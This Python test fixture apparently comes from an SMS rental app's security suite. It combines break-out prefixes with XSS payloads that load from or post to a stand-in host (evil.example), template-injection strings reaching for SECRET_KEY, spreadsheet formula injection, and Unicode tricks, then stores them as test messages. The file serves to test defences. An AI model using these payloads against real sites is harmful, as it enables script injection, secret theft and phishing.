"""Texts that a stranger might send: each of the payloads after each of the ways to break out."""

from rentals.models import Activation, Message
from smsbus.fields import clean
from tests.security.world import World, make_world

MARKUP = (
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img src=https://evil.example/pixel.png>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext></p><img src=x onerror=alert(1)></mtext></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/></object>",
    "<embed src=https://evil.example/>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0; url=https://evil.example/'>",
    "<form action=https://evil.example/><button>Sign in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<style>*{background:url(https://evil.example/)}</style>",
    "<div style='position:fixed;inset:0'>Your session ended</div>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    "<div hx-get=https://evil.example/ hx-trigger=load></div>",
    "<div hx-on:load='alert(1)'></div>",
    "<a href='javascript:alert(1)'>open</a>",
    "<!--><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "＜script＞alert(1)",
)
PLAIN = (
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "https://evil.example/?a=1&b=<b>",
    "onmouseover=alert(1) x=",
    "{{ 7|add:7 }}{% load static %}{{ settings.SECRET_KEY }}",
    "{% include 'account/login.html' %}",
    "${7*7} #{7*7} %{7*7} {0.__class__} %s %(x)s",
    '=HYPERLINK("https://evil.example/","open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "-2+3+cmd",
    "\tTab first",
)
TRICKS = (
    "\u202e654321 si edoc ruoY",
    "\u2067123456\u2066 654321\u2069\u2069",
    "\u202a\u202b\u202d123456",
    "12\u200b34\u2060\ufeff56",
    "123\xad456",
    "\x00123456",
    "\x1b[31m123456\x1b[0m",
    "\x08\x08\x08\x7f\x9b123456",
    "\ud800123456\udfff",
    "Z\u0351\u036b\u0343" * 20,
    "123456" + "\n" * 40 + "Your session ended",
    "W" * 3000,
)
WAYS_OUT = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "</p></div>",
    "</script>",
    "-->",
    "]]>",
    "</textarea></title></style>",
    "123456 is your code. ",
)
TEXTS = [
    *dict.fromkeys(way_out + payload for way_out in WAYS_OUT for payload in MARKUP + PLAIN + TRICKS)
]
# As the provider's client hands them on: what no database stores is replaced at the edge.
CLEAN = [clean(text) for text in TEXTS]


def make_world_with_messages() -> World:
    """One number of our team has a harmless message for every text, and so has one lease."""
    world = make_world()
    things = world.things[world.ours]
    number = Activation.objects.get(pk=things["rentals/activation"])
    Message.objects.all().delete()
    for place in ({"activation": number}, {"lease_id": things["rentals/lease"]}):
        Message.objects.bulk_create(
            Message(team=world.ours, code="123456", digest=f"{n}", text="harmless", **place)
            for n in range(len(CLEAN))
        )
    things |= {"code": number.purchase.code, "rentals/message": Message.objects.all()[0].pk}
    return world


def make_hostile() -> None:
    """Put the texts into those messages; nothing else of them changes."""
    messages = list(Message.objects.order_by("activation_id", "pk"))
    for message, text in zip(messages, [*CLEAN, *CLEAN], strict=True):
        message.text = text
    Message.objects.bulk_update(messages, ["text"])
